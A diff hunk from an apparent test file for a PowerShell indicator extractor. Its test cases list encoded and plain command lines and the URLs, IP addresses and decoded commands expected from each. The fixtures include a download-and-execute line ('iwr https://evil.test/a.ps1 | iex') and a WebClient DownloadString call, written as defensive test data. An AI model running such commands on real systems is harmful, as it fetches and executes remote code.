@@ -113,7 +113,7 @@ CASES: dict[str, tuple[str, dict[str, Any]]] = {
     "no payload": ("Get-Content -Encoding UTF8String1 -Path x -ErrorAction Stop", {"decoded_command": None}),
     "encoded, after a parameter that is none": (f"powershell -ep /enc {PAYLOAD}", {"url": "https://evil.test/a.ps1"}),
     "encoded, any prefix": (f"powershell -eNCo '{PAYLOAD}'; x -Exec {PAYLOAD}", {"decoded_command": "iwr https://evil.test/a.ps1 | iex"}),
-    "addresses": ("iwmi -CN 010.1.1.1,10.1.1.256,1.2.3,10.1.1.25,fe80::1,::a,::Add", {"ip_address": ["10.1.1.25", "fe80::1"]}),
+    "addresses of a call": ("iwmi -CN 010.1.1.1,10.1.1.256,1.2.3,10.1.1.25,fe80::1,::a,::Add", {"ip_address": ["10.1.1.25", "fe80::1"]}),
     "not UTF-16": ("powershell -enc aGVsbG8gd29ybGQhaGVsbG8h", {"decoded_command": None}),
     "addresses": ("ping 10.1.2.3; ping fe80::1; ping 300.1.1.1; $v='4.0.30319.42000'; [io.file]::Add", {"ip_address": ["10.1.2.3", "fe80::1"]}),
     "urls": ("(New-Object Net.WebClient).DownloadString('http://a.test/x(1).ps1'); 'see https://b.test/y. app://open?u=HTTP://c.test :// x'", {"url": ["http://a.test/x(1).ps1", "https://b.test/y", "HTTP://c.test"]}),
